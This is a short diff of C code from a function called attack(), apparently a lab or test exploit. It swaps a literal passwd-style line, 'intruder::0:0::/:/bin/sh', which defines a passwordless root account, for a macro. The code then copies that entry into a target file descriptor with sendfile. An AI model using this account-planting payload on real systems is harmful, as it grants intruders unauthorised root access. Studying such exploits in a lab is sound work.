@@ -17,7 +17,7 @@ void attack(void)
 
 	if (fd < 0)
 		no_effect(errno);
-	drop_text("intruder::0:0::/:/bin/sh\n", "/tmp/lab-send");
+	drop_text(INTRUDER_ENTRY, "/tmp/lab-send");
 	from = open("/tmp/lab-send", O_RDONLY | O_CLOEXEC);
 	if (sendfile(fd, from, NULL, 16) != 16)
 		error = errno;
